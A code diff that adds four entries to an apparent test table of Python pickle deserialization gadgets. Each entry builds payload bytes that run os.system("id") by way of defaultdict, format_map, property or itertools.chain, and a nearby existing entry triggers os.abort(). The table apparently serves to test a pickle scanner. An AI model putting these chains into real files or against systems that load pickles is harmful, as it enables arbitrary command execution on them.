@@ -59,6 +59,33 @@ export const GADGETS: Readonly<Record<string, { readonly bytes: string; readonly
     ),
     says: 'os.system("id")',
   },
+  'a missing key by its method': {
+    bytes: R(
+      get(c('collections', 'defaultdict'), '__missing__'),
+      R(c('collections', 'defaultdict'), R(c('functools', 'partial'), SYS, ID)),
+      U('k'),
+    ),
+    says: 'os.system("id")',
+  },
+  'a missing key of a format': {
+    bytes: R(
+      get(c('builtins', 'str'), 'format_map'),
+      U('{k}'),
+      R(c('collections', 'defaultdict'), R(c('functools', 'partial'), SYS, ID)),
+    ),
+    says: 'os.system("id")',
+  },
+  'a property that is read': {
+    bytes: R(get(c('builtins', 'property'), '__get__'), R(c('builtins', 'property'), SYS), ID),
+    says: 'os.system("id")',
+  },
+  'state of a chain': {
+    bytes: R(
+      c('builtins', 'list'),
+      `${R(c('itertools', 'chain'))}${t(R(c('builtins', 'iter'), L(R(c('builtins', 'map'), SYS, L(ID)))))}b`,
+    ),
+    says: 'os.system("id")',
+  },
   'factory of a defaultdict': {
     bytes: R(c('operator', 'getitem'), R(c('collections', 'defaultdict'), c('os', 'abort')), U('k')),
     says: 'os.abort()',
